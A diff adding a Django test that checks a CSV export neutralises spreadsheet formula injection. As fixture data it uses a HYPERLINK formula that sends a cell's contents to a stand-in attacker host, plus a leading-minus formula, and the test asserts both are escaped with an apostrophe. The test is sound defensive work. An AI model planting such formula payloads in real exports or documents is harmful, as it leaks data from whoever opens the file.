@@ -1,6 +1,8 @@
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -315,3 +317,14 @@ def test_municipalities_come_from_the_multi_select_with_dates_only_where_they_di
         f.formset for f in page["inline_admin_formsets"] if f.formset.prefix == "municipalities"
     )
     assert [row.instance.organisation for row in dated.forms] == [later]
+
+
+def test_export_csv_escapes_formulae(client, programme_admin):
+    mou = signed_mou(title_th='=HYPERLINK("http://evil.example/"&A1)', title_en="-2+3")
+    client.force_login(programme_admin)
+    response = client.post(
+        reverse("admin:mou_mou_changelist"),
+        {"action": "export_csv", "_selected_action": [mou.pk]},
+    )
+    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+    assert row[1:3] == ['\'=HYPERLINK("http://evil.example/"&A1)', "'-2+3"]
